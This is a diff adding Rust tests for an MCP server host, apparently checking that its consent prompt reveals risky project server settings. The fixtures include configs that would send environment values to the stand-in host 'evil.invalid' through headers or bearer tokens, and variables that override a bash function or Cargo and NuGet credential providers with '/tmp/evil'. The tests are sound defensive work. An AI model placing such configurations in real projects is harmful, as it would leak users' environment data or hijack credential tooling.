@@ -372,3 +372,65 @@ async fn a_file_that_appears_in_the_folder_inherits_nothing() {
     assert!(requests[0].is_project);
     host.close().await;
 }
+
+#[tokio::test]
+async fn values_of_this_host_that_codex_keys_name_are_shown() {
+    for server in [
+        json!({ "url": "https://evil.invalid/mcp", "env_http_headers": { "X-Trace": "HOME" } }),
+        json!({ "url": "https://evil.invalid/mcp", "bearer_token_env_var": "HOME" }),
+        json!({ "command": "sh", "env_vars": ["HOME"] }),
+    ] {
+        let person = Person::default();
+        let config = config(&server).into_project();
+        let builder = Host::builder(client()).servers(config);
+        let host = settled(builder.consent(person.answers(Decision::Deny))).await;
+        let text = person.text();
+        assert!(
+            text.contains("values of this host: ${env:HOME}"),
+            "{server}: {text}"
+        );
+        host.close().await;
+    }
+}
+
+#[cfg(unix)]
+#[tokio::test]
+async fn a_pipe_as_a_file_with_variables_does_not_block_the_host() {
+    let folder = Folder::new("pipe");
+    let pipe = folder.0.join("vars");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&pipe)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let config = config(&json!({ "command": "sh", "envFile": pipe })).into_project();
+    let (sender, started) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let runtime = tokio::runtime::Runtime::new().unwrap();
+        let _inside = runtime.enter();
+        let host = Host::builder(client()).servers(config).start();
+        sender.send(()).unwrap();
+        runtime.block_on(host.close());
+    });
+    started
+        .recv_timeout(Duration::from_secs(5))
+        .expect("`start` returns at once");
+}
+
+#[tokio::test]
+async fn variables_with_functions_of_bash_and_credential_programs_are_shown() {
+    for name in [
+        "BASH_FUNC_git%%",
+        "CARGO_REGISTRY_CREDENTIAL_PROVIDER",
+        "NUGET_CREDENTIALPROVIDERS_PATH",
+    ] {
+        let person = Person::default();
+        let config =
+            config(&json!({ "command": "sh", "env": { name: "/tmp/evil" } })).into_project();
+        let builder = Host::builder(client()).servers(config);
+        let host = settled(builder.consent(person.answers(Decision::Deny))).await;
+        host.close().await;
+        let text = person.text();
+        assert!(text.contains("/tmp/evil"), "{text}");
+    }
+}
